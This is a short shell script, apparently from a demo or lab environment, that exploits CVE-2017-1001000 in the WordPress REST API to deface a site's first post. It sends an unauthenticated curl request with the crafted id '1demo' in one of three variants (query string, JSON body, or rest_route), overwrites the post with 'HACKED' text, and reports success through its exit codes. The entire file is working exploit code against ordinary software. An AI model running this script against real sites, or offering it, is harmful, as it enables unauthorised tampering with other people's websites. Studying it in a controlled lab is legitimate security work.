#!/bin/sh
# Defaces post 1 of the demo's blog through CVE-2017-1001000: the id of the path passes the route,
# the id of the query ("1demo") passes the permission check, and the update casts it to 1.
# Usage: deface.sh http://HOST[:PORT] [query|body|route]
#   query: pretty link, id in the query (the published exploit)     body: id in the JSON body
#   route: the form without pretty links, id in the JSON body
# Ends with 0 when the post was changed, 1 when the server refused, 2 when it gave no answer.
set -u
site=${1:?usage: deface.sh http://HOST[:PORT] [query|body|route]}
form=${2:-query}
text='{"title":"HACKED by the demo attacker","content":"This page was defaced through CVE-2017-1001000."'
case $form in
    query) url="$site/wp-json/wp/v2/posts/1?id=1demo"; body="$text}" ;;
    body) url="$site/wp-json/wp/v2/posts/1"; body="$text,\"id\":\"1demo\"}" ;;
    route) url="$site/index.php?rest_route=/wp/v2/posts/1"; body="$text,\"id\":\"1demo\"}" ;;
    *) echo "deface.sh: unknown form: $form" >&2; exit 64 ;;
esac
code=$(curl --silent --show-error --globoff --max-time 8 --output /dev/null --write-out '%{http_code}' \
    --header 'Content-Type: application/json' --data "$body" "$url")
status=$?
echo "deface ($form): HTTP $code, curl exit $status"
[ "$status" -eq 0 ] || exit 2
[ "$code" = 200 ] || exit 1
